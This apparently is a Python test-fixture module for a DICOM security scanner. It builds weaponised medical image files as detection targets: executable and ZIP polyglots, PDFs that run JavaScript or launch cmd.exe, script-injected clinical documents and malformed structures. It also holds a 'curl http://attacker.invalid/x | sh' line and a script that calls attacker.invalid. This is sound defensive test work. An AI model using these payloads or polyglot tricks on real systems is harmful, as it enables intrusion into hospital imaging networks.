"""Weaponised DICOM files, built for real: polyglots that other tools open as what they hide.

Every builder returns the bytes of a file; the valid ones are written by pydicom (so pydicom
reads them back), the structurally abusive ones byte by byte (no writer would produce them).
"""

from __future__ import annotations

import io
import struct
import zipfile
from pathlib import Path

from pydicom.dataset import Dataset, FileMetaDataset
from pydicom.uid import (
    DeflatedExplicitVRLittleEndian,
    EncapsulatedPDFStorage,
    ExplicitVRLittleEndian,
    ImplicitVRLittleEndian,
    JPEGBaseline8Bit,
    SecondaryCaptureImageStorage,
    generate_uid,
)

from pacsguard.dicom.part10 import file_meta

CLEAN_PDF = (b"%PDF-1.4\n"
             b"1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >> endobj\n"
             b"2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj\n"
             b"3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >> endobj\n"
             b"trailer << /Root 1 0 R >>\n%%EOF\n")
JS_PDF = (b"%PDF-1.4\n"
          b"1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >> endobj\n"
          b"2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj\n"
          b"3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >> endobj\n"
          b"4 0 obj << /S /JavaScript /JS (app.alert\\('pacsguard test'\\)) >> endobj\n"
          b"trailer << /Root 1 0 R >>\n%%EOF\n")
LAUNCH_PDF = JS_PDF.replace(b"/S /JavaScript /JS (app.alert\\('pacsguard test'\\))",
                            b"/S /Launch /F (cmd.exe)")
# /JavaScript written with a #xx escape (ISO 32000-1 §7.3.5): /J#61vaScript
ESCAPED_JS_PDF = JS_PDF.replace(b"/S /JavaScript /JS", b"/S /J#61vaScript /J#53")
CLEAN_CDA = (b'<?xml version="1.0" encoding="UTF-8"?>\n'
             b'<ClinicalDocument xmlns="urn:hl7-org:v3"><title>Report</title>'
             b"<component><structuredBody><component><section><text>No findings."
             b"</text></section></component></structuredBody></component></ClinicalDocument>\n")
SCRIPT_CDA = CLEAN_CDA.replace(b"No findings.",
                               b'No findings.<xhtml:script>alert(1)</xhtml:script>'
                               b'<object data="x.exe"/>')


def pdf_with_js_in_object_stream() -> bytes:
    """JavaScript only inside a compressed object stream (ISO 32000-1 §7.5.7)."""
    import zlib

    objects = b"4 0 << /S /JavaScript /JS (app.alert\\(1\\)) >>"
    packed = zlib.compress(objects)
    return (b"%PDF-1.5\n"
            b"1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >> endobj\n"
            b"2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n"
            b"5 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length "
            + str(len(packed)).encode() + b" >>\nstream\n" + packed + b"\nendstream\nendobj\n"
            b"trailer << /Root 1 0 R >>\n%%EOF\n")


def pe_preamble() -> bytes:
    """A 128-byte preamble that is an MZ stub whose e_lfanew (0x40) leads to a PE header.

    The COFF header says i386 (0x014C), executable image; the optional header's magic says
    PE32 (0x010B). Its remaining fields fall into 'DICM' and the File Meta Information, as in
    CVE-2019-11687's published proofs of concept; ``file -k`` calls it a PE32 executable.
    """
    pre = bytearray(128)
    pre[0:2] = b"MZ"
    struct.pack_into("<I", pre, 0x3C, 0x40)
    pre[0x40:0x44] = b"PE\0\0"
    struct.pack_into("<HHIIIHH", pre, 0x44, 0x014C, 1, 0, 0, 0, 0xE0, 0x0102)
    struct.pack_into("<H", pre, 0x58, 0x010B)
    return bytes(pre)


ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(8) + struct.pack("<HHI", 2, 0x3E, 1) + bytes(40)
SHELL = b"#!/bin/sh\ncurl http://attacker.invalid/x | sh\n"
HTML = b"<html><body><script>fetch('http://attacker.invalid/')</script></body></html>"


def exe_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("setup.exe", b"MZ" + bytes(62))
    return out.getvalue()


def plain_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("notes.txt", b"hello")
    return out.getvalue()


def base_dataset(sop_class: str = SecondaryCaptureImageStorage,
                 ts: str = ExplicitVRLittleEndian) -> Dataset:
    """A small Secondary Capture image with fake (test) patient data."""
    meta = FileMetaDataset()
    meta.MediaStorageSOPClassUID = sop_class
    meta.MediaStorageSOPInstanceUID = generate_uid()
    meta.TransferSyntaxUID = ts
    ds = Dataset()
    ds.file_meta = meta
    ds.SOPClassUID = sop_class
    ds.SOPInstanceUID = meta.MediaStorageSOPInstanceUID
    ds.StudyInstanceUID = generate_uid()
    ds.SeriesInstanceUID = generate_uid()
    ds.PatientName = "TEST^POLYGLOT"
    ds.PatientID = "PG-0001"
    ds.Modality = "OT"
    ds.Rows = ds.Columns = 8
    ds.SamplesPerPixel = 1
    ds.PhotometricInterpretation = "MONOCHROME2"
    ds.BitsAllocated = ds.BitsStored = 8
    ds.HighBit = 7
    ds.PixelRepresentation = 0
    ds.PixelData = bytes(range(64))
    return ds


def to_bytes(ds: Dataset, preamble: bytes | None = None) -> bytes:
    if preamble is not None:
        ds.preamble = preamble
    out = io.BytesIO()
    ds.save_as(out, enforce_file_format=True)
    return out.getvalue()


def clean_file() -> bytes:
    return to_bytes(base_dataset())


def with_private(payload: bytes, vr: str = "OB", ts: str = ExplicitVRLittleEndian) -> bytes:
    """A private element (0009,1001) holding ``payload``, creator 'PACSGUARD TEST'."""
    ds = base_dataset(ts=ts)
    ds.add_new(0x00090010, "LO", "PACSGUARD TEST")
    ds.add_new(0x00091001, vr, payload + (b"\0" if len(payload) % 2 else b""))
    return to_bytes(ds)


def encapsulated(document: bytes, mime: str = "application/pdf") -> bytes:
    """An Encapsulated PDF (PS3.3 A.45.1) or CDA (A.45.2) instance holding ``document``."""
    ds = base_dataset(EncapsulatedPDFStorage)
    for keyword in ("Rows", "Columns", "SamplesPerPixel", "PhotometricInterpretation",
                    "BitsAllocated", "BitsStored", "HighBit", "PixelRepresentation",
                    "PixelData"):
        delattr(ds, keyword)
    if mime != "application/pdf":
        ds.SOPClassUID = ds.file_meta.MediaStorageSOPClassUID = "1.2.840.10008.5.1.4.1.1.104.2"
    ds.MIMETypeOfEncapsulatedDocument = mime
    ds.EncapsulatedDocument = document + (b"\0" if len(document) % 2 else b"")
    return to_bytes(ds)


def zip_polyglot() -> bytes:
    """A valid DICOM file whose pixel data ends with a ZIP archive: ZIP tools open it."""
    ds = base_dataset()
    archive = exe_zip()
    value = b"\0" * (len(archive) % 2) + archive  # even length; the end record ends the file
    ds.Rows, ds.Columns = 1, len(value)
    ds.PixelData = value
    return to_bytes(ds)


# -- byte-level builders: structures no writer would produce -------------------------------
def _el(group: int, elem: int, vr: bytes, value: bytes) -> bytes:
    if vr in (b"OB", b"OW", b"SQ", b"UN", b"UT"):
        return struct.pack("<HH2sHI", group, elem, vr, 0, len(value)) + value
    return struct.pack("<HH2sH", group, elem, vr, len(value)) + value


ITEM = b"\xfe\xff\x00\xe0"
ITEM_UNDEFINED = ITEM + b"\xff\xff\xff\xff"
ITEM_DELIM = b"\xfe\xff\x0d\xe0\0\0\0\0"
SEQ_DELIM = b"\xfe\xff\xdd\xe0\0\0\0\0"


def header(ts: str = ExplicitVRLittleEndian, sop_class: str = SecondaryCaptureImageStorage
           ) -> bytes:
    """Preamble, 'DICM' and File Meta Information (as the gateway writes them)."""
    return file_meta(sop_class, generate_uid(), ts, "")


def nested(depth: int) -> bytes:
    """Content Sequences (0040,A730) nested ``depth`` deep, undefined lengths throughout."""
    inner = _el(0x0040, 0xA160, b"UT", b"deep")
    for _ in range(depth):
        inner = (struct.pack("<HH2sHI", 0x0040, 0xA730, b"SQ", 0, 0xFFFFFFFF) + ITEM_UNDEFINED
                 + inner + ITEM_DELIM + SEQ_DELIM)
    return header() + _el(0x0008, 0x0060, b"CS", b"SR") + inner


def fragments(count: int, frames: int = 1) -> bytes:
    """JPEG Baseline pixel data split into ``count`` two-byte fragments (PS3.5 §A.4)."""
    items = ITEM + b"\0\0\0\0" + (ITEM + b"\2\0\0\0\xff\xd9") * count
    return (header(JPEGBaseline8Bit) + _el(0x0028, 0x0008, b"IS", str(frames).encode() + b" ")
            + struct.pack("<HH2sHI", 0x7FE0, 0x0010, b"OB", 0, 0xFFFFFFFF) + items + SEQ_DELIM)


def absurd_length() -> bytes:
    """An OB element that claims 4 GiB - 16 bytes in a file of a few hundred."""
    return (header() + _el(0x0008, 0x0060, b"CS", b"OT")
            + struct.pack("<HH2sHI", 0x0009, 0x1001, b"OB", 0, 0xFFFFFFF0) + b"\0" * 16)


def deflated_with(payload: bytes) -> bytes:
    """A Deflated Explicit VR Little Endian file (PS3.5 §A.5) hiding ``payload`` privately."""
    return with_private(payload, ts=DeflatedExplicitVRLittleEndian)


def implicit_with(payload: bytes) -> bytes:
    ds = base_dataset(ts=ImplicitVRLittleEndian)
    ds.add_new(0x00090010, "LO", "PACSGUARD TEST")
    ds.add_new(0x00091001, "OB", payload + (b"\0" if len(payload) % 2 else b""))
    return to_bytes(ds)


def archive(root: Path) -> Path:
    """A small image folder under ``root``: a clean image, one with a PE preamble (critical),
    an encapsulated PDF with JavaScript (high) and a README that is not DICOM (info)."""
    (root / "series").mkdir(parents=True)
    (root / "series" / "IM1.dcm").write_bytes(clean_file())
    (root / "series" / "IM2.dcm").write_bytes(to_bytes(base_dataset(), pe_preamble()))
    (root / "report.dcm").write_bytes(encapsulated(JS_PDF))
    (root / "README.txt").write_text("an image folder\n")
    return root
